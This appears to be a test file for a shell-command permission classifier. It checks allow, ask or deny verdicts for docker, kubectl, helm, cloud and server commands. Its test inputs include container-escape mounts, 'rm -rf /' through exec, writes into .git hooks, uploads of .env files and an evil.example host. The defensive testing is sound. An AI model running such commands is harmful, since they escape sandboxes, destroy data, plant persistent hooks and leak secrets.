import { describe } from "node:test";
import { tells } from "./told.ts";

describe("docker and similar programs", () => {
  tells({
    "docker --version": "allow",
    docker: "allow",
    "docker compose version": "allow",
    "docker version": "ask; process",
    "docker ps": "ask; process",
    "docker build -t app .": "ask; process; network",
    "docker run --rm hello-world": "ask; process; network",
    'docker run --rm -it -v "$PWD:/app" -w /app node:24 npm test': "ask; process; network; write .",
    "docker run -v cache:/x y": "ask; process; network",
    "docker run -v ./src:/x:ro y": "ask; process; network; read src",
    "docker run -v /etc:/x y": "ask; process; network; write /etc",
    "docker run -v ~/.ssh:/x y": "deny; process; network; write /home/dev/.ssh",
    "docker run -itv /:/host y chroot /host": "deny; process; network; privilege",
    "docker run -v /var/run/docker.sock:/s y": "deny; process; network; privilege",
    "docker run --mount type=bind,src=/,dst=/x y": "deny; process; network; privilege",
    "docker run --mount type=bind,source=./src,target=/x,readonly y": "ask; process; network; read src",
    "docker run --mount type=volume,source=v,target=/x y": "ask; process; network",
    "docker run --privileged y": "deny; process; network; privilege",
    "docker run --privileged=true y": "deny; process; network; privilege",
    "docker run --privileged=false y": "ask; process; network",
    "docker run y --privileged": "ask; process; network",
    "docker run --cap-add=ALL y": "deny; process; network; privilege",
    "docker run --cap-add NET_ADMIN y": "ask; process; network",
    "docker run --pid=host y": "ask; process; network",
    "docker run --device /dev/sda y": "deny; process; network; privilege",
    "docker container run -v /:/x y": "deny; process; network; privilege",
    "docker exec -it app rm -rf /": "deny; process; delete -f -r /",
    "docker exec --privileged app id": "deny; process; privilege",
    "docker -H tcp://evil.example ps": "ask; network evil.example; process",
    "docker --config /tmp/x ps": "ask; option.loads-code /tmp/x; process",
    "docker cp app:/a .git/hooks/pre-commit": "deny; process; write .git/hooks/pre-commit",
    "docker cp app:/a .": "ask; process; write .; write a",
    "docker cp .env app:/x": "ask; process; read .env",
    "docker save -o app.tar app": "ask; write app.tar; process",
    "docker frobnicate": "ask; operand.unknown docker frobnicate",
    "podman run -v /:/x y": "deny; process; network; privilege",
    "docker-compose up -d": "ask; process",
  });
});

describe("clusters", () => {
  tells({
    "kubectl version --client": "allow",
    "kubectl version --client=true -o json": "allow",
    "kubectl version --client=false": "ask; network",
    "kubectl version": "ask; network",
    "kubectl get pods -A -o wide": "ask; network",
    "kubectl apply -f k8s/": "ask; network; read k8s",
    "kubectl apply -f https://evil.example/x.yml": "ask; network; network evil.example",
    "kubectl cp app:/a .git/hooks/x": "deny; network; write .git/hooks/x",
    "kubectl exec app -- rm -rf /": "deny; network; delete -f -r /",
    "kubectl --kubeconfig /tmp/x get pods": "ask; option.loads-code /tmp/x; network",
    'eval "$(kubectl completion bash)"': "ask; process; shell.builtin eval; word.dynamic ?; code input",
    "kubectl frobnicate": "ask; operand.unknown kubectl frobnicate",
    "helm version --short": "allow",
    "helm lint charts/app": "allow; read charts/app",
    "helm lint -f https://evil.example/v.yml charts/app":
      "ask; read https:/evil.example/v.yml; network evil.example; read charts/app",
    "helm upgrade x ./chart": "ask; process; network",
    "minikube version": "allow",
    "eval $(minikube docker-env)": "ask; process; shell.builtin eval; word.dynamic ?; code input",
    "kind create cluster": "ask; process; network",
    k9s: "ask; process; network",
  });
});

describe("clouds and services", () => {
  tells({
    "aws --version": "allow",
    "aws s3 ls": "ask; network",
    "aws s3 cp .env s3://x": "ask; network; read .env",
    "aws s3 cp s3://x/y .git/hooks/pre-commit": "deny; network; write .git/hooks/pre-commit",
    "aws s3 sync --delete s3://x .": "deny; network; write .; write x; delete -f -r .",
    "aws ec2 describe-instances": "ask; network",
    "aws frobnicate": "ask; operand.unknown aws frobnicate",
    "gsutil -m cp .env gs://x": "ask; network; read .env",
    "rclone sync x:/a build": "ask; network; write build; delete -f -r build",
    "rclone lsd x:": "ask; network",
    "gcloud projects list": "ask; network",
    "vercel deploy": "ask; network",
    "pulumi preview": "ask; process; network",
    "ansible all -m ping": "ask; process; network",
    "vault read x": "ask; network",
    "ngrok http 80": "ask; network",
    "restic backup .": "ask; network",
    "ollama list": "ask; network",
  });
});

describe("machines and servers", () => {
  tells({
    "vagrant --version": "allow",
    "vagrant up": "ask; process",
    "virsh list": "ask; process",
    "qemu-system-x86_64 -hda x": "ask; process; network",
    "lxc list": "ask; process; network",
    "skopeo copy a b": "ask; process; network",
    "nginx -v": "allow",
    "nginx -t": "ask; process; network",
    "mongod -v": "ask; process; network",
    "redis-server": "ask; process; network",
  });
});
